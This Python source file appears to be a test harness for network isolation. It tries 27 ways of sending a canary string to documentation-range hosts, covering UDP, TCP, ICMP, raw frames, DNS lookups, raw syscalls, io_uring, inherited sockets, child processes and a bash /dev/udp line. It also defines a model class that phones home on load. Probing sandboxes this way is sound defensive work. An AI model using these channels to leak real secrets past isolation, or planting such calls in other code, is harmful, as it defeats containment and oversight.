# SPDX-License-Identifier: Apache-2.0
"""Ways of sending a secret out of the machine; each has a port of its own to be known by.

`python senders.py CANARY` tries all of them and prints what came of each as JSON; as a
custom model (`senders.py:Sender`) it does so inside a worker, and `try_all` inside
whatever process calls it. What a kernel lacks or refuses is told by its errno.
"""

import ctypes
import errno
import json
import mmap
import os
import socket
import struct
import subprocess
import sys
import threading
from collections.abc import Callable, Mapping
from dataclasses import dataclass

HOST_V4, HOST_V6 = "203.0.113.7", "2001:db8::7"
FIRST_PORT = 20_000
SECONDS = 0.3  # a peer that does not answer is not waited for
SENT = "sent"
_FASTOPEN = 0x20000000
_SYSCALLS = {"x86_64": (41, 44), "aarch64": (198, 206)}  # socket, sendto
_RING_SETUP, _RING_ENTER = 425, 426
_OP_CONNECT, _OP_SEND, _OP_SOCKET = 16, 26, 45


@dataclass(frozen=True, slots=True, kw_only=True)
class Secret:
    """What is to get out, and the port by which the way is known."""

    canary: str
    port: int

    @property
    def text(self) -> bytes:
        return self.canary.encode()

    @property
    def v4(self) -> tuple[str, int]:
        return HOST_V4, self.port

    @property
    def v6(self) -> tuple[str, int]:
        return HOST_V6, self.port


Way = Callable[[Secret], object]


def _opened(family: int, kind: int, protocol: int = 0) -> socket.socket:
    opened = socket.socket(family, kind, protocol)
    opened.settimeout(SECONDS)
    return opened


def udp_v4(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(secret.text, secret.v4)


def udp_v6(secret: Secret) -> None:
    with _opened(socket.AF_INET6, socket.SOCK_DGRAM) as out:
        out.sendto(secret.text, secret.v6)


def udp_mapped(secret: Secret) -> None:
    with _opened(socket.AF_INET6, socket.SOCK_DGRAM) as out:
        out.sendto(secret.text, (f"::ffff:{HOST_V4}", secret.port))


def udp_connected(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect(secret.v4)
        out.sendmsg([secret.text])


def udp_broadcast(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        out.sendto(secret.text, ("255.255.255.255", secret.port))


def udp_multicast(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(secret.text, ("224.0.0.251", secret.port))


def udp_from_a_thread(secret: Secret) -> None:
    failed: list[OSError] = []

    def send() -> None:
        try:
            udp_v4(secret)
        except OSError as error:
            failed.append(error)

    thread = threading.Thread(target=send)
    thread.start()
    thread.join()
    if failed:
        raise failed[0]


def tcp_v4(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.connect(secret.v4)


def tcp_v6(secret: Secret) -> None:
    with _opened(socket.AF_INET6, socket.SOCK_STREAM) as out:
        out.connect(secret.v6)


def fast_open(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.sendto(secret.text, _FASTOPEN, secret.v4)


def fast_open_message(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.sendmsg([secret.text], [], _FASTOPEN, secret.v4)


def mptcp(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_STREAM, 262) as out:
        out.connect(secret.v4)


def udplite(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_DGRAM, 136) as out:
        out.sendto(secret.text, secret.v4)


def sctp(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_STREAM, 132) as out:
        out.connect(secret.v4)


def ping(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as out:
        out.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + secret.text, (HOST_V4, 0))


def raw_ip(secret: Secret) -> None:
    with _opened(socket.AF_INET, socket.SOCK_RAW, 253) as out:
        out.sendto(secret.text, (HOST_V4, 0))


def raw_frame(secret: Secret) -> None:
    with _opened(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("vin", 0x88B5))
        out.send(b"\x02\0\0\0\0\x01\x02\0\0\0\0\x02\x88\xb5" + secret.text)


def a_name(secret: Secret) -> None:
    socket.getaddrinfo(f"{secret.canary}.example.com", 443)


def libc(secret: Secret) -> None:
    """Without Python's socket module in between."""
    c = ctypes.CDLL(None, use_errno=True)
    _sent_with(c.socket(2, 2, 0), c.sendto, secret)


def system_calls(secret: Secret) -> None:
    """Without libc's functions in between."""
    c = ctypes.CDLL(None, use_errno=True)
    opens, sends = _SYSCALLS[os.uname().machine]

    def sendto(*arguments: object) -> int:
        result: int = c.syscall(sends, *arguments)
        return result

    _sent_with(c.syscall(opens, 2, 2, 0), sendto, secret)


def _sent_with(fd: int, sendto: Callable[..., int], secret: Secret) -> None:
    _done(fd)
    to = _address(secret)
    _done(sendto(fd, secret.text, len(secret.text), 0, to, len(to)))
    os.close(fd)


def _address(secret: Secret) -> bytes:
    packed = struct.pack(">H", secret.port) + socket.inet_aton(HOST_V4)
    return struct.pack("=H", socket.AF_INET) + packed + bytes(8)


def _done(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def ring(secret: Secret) -> None:
    """By io_uring: the kernel opens, connects and sends, with none of those calls."""
    c = ctypes.CDLL(None, use_errno=True)
    params = bytearray(120)
    spot = (ctypes.c_char * 120).from_buffer(params)
    fd = _done(c.syscall(_RING_SETUP, 4, spot))
    _, _, _, _, _, _, array = struct.unpack_from("7I", params, 40)
    tail_at = struct.unpack_from("I", params, 44)[0]
    cqes_at = struct.unpack_from("I", params, 100)[0]
    rings = mmap.mmap(fd, max(array + 16, cqes_at + 128))
    entries = mmap.mmap(fd, 256, offset=0x10000000)

    def ask(index: int, operation: int, *words: int) -> int:
        fields = (operation, 0, 0, *words, 0, index, 0, 0, 0, 0, 0)
        struct.pack_into("=BBHiQQIIQHHiQQ", entries, 64 * index, *fields)
        struct.pack_into("I", rings, array + 4 * index, index)
        struct.pack_into("I", rings, tail_at, index + 1)
        _done(c.syscall(_RING_ENTER, fd, 1, 1, 1, None, 0))
        result: int = struct.unpack_from("i", rings, cqes_at + 16 * index + 8)[0]
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    address, text = map(ctypes.create_string_buffer, (_address(secret), secret.text))
    out = ask(0, _OP_SOCKET, socket.AF_INET, socket.SOCK_DGRAM, 0, 0)
    ask(1, _OP_CONNECT, out, 16, ctypes.addressof(address), 0)
    ask(2, _OP_SEND, out, 0, ctypes.addressof(text), len(secret.text))


def inherited(secret: Secret) -> None:
    """Send over any socket that lies around, turned to the outside."""
    for fd in range(64):
        try:
            found = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        with found:
            if found.family in {socket.AF_INET, socket.AF_INET6}:
                found.connect(secret.v4)
                found.send(secret.text)
                return
    raise OSError(errno.ENOTSOCK, "no socket lies around")


_CHILD = "import socket,sys;socket.socket(2,2).sendto({!r},({!r},{}))"


def _child(secret: Secret) -> list[str]:
    code = _CHILD.format(secret.text, *secret.v4)
    return [sys.executable, "-I", "-S", "-c", code]


def a_program(secret: Secret) -> None:
    subprocess.run(_child(secret), check=True, timeout=5, stderr=subprocess.DEVNULL)


def a_shell(secret: Secret) -> None:
    line = f"echo {secret.canary} > /dev/udp/{HOST_V4}/{secret.port}"
    if os.system(f"bash -c '{line}' 2>/dev/null"):  # noqa: S605
        raise OSError(errno.EPERM, "the shell failed")


def spawned(secret: Secret) -> None:
    argv = _child(secret)
    _ended(os.posix_spawn(argv[0], argv, {}))


def forked(secret: Secret) -> None:
    pid = os.fork()
    if pid == 0:
        try:
            udp_v4(secret)
        except OSError:
            os._exit(1)
        os._exit(0)
    _ended(pid)


def _ended(pid: int) -> None:
    if os.waitpid(pid, 0)[1]:
        raise OSError(errno.EPERM, "the child failed")


def in_new_namespace(secret: Secret) -> None:
    """Get the rights back in a user namespace, then send."""
    _done(ctypes.CDLL(None, use_errno=True).unshare(0x10000000))
    udp_v4(secret)


WAYS: Mapping[str, Way] = {
    each.__name__: each
    for each in (
        udp_v4, udp_v6, udp_mapped, udp_connected, udp_broadcast, udp_multicast,
        udp_from_a_thread, tcp_v4, tcp_v6, fast_open, fast_open_message, mptcp, udplite,
        sctp, ping, raw_ip, raw_frame, a_name, libc, system_calls, ring, inherited,
        a_program, a_shell, spawned, forked, in_new_namespace,
    )
}  # fmt: skip
PORTS = {FIRST_PORT + number: name for number, name in enumerate(WAYS)}
# What any kernel of today lets an unlocked process send.
COMMON = {
    "udp_v4", "udp_mapped", "udp_connected", "udp_from_a_thread", "tcp_v4", "fast_open",
    "fast_open_message", "a_name", "libc", "system_calls", "a_program", "spawned", "forked",
}  # fmt: skip


def attempt(name: str, canary: str) -> str:
    """Try one way; return "sent", or the errno's name, or what else was raised."""
    port = next(port for port, way in PORTS.items() if way == name)
    try:
        WAYS[name](Secret(canary=canary, port=port))
    except OSError as error:
        if error.errno in {errno.ECONNREFUSED, errno.EINPROGRESS}:
            return SENT  # it left, and somebody out there refuses it, or will answer
        return errno.errorcode.get(error.errno or 0, str(error))
    except (subprocess.SubprocessError, KeyError) as error:
        return type(error).__name__
    return SENT


def try_all(canary: str) -> dict[str, str]:
    """Try every way, in order."""
    return {name: attempt(name, canary) for name in WAYS}


class Sender:
    """A model that does nothing but try to get its prompt out."""

    def load(self, options):
        """Try already here, as a library does that phones home when imported."""
        attempt("udp_v4", "imported")

    def describe(self):
        from lao.workflow.inference import ModelDescription

        return ModelDescription(name="sender")

    def infer(self, request, report):
        from lao.workflow.inference import ModelReply

        return ModelReply(value=try_all(request.prompt), made_by="sender")


if __name__ == "__main__":
    sys.stdout.write(json.dumps(try_all(sys.argv[1])) + "\n")
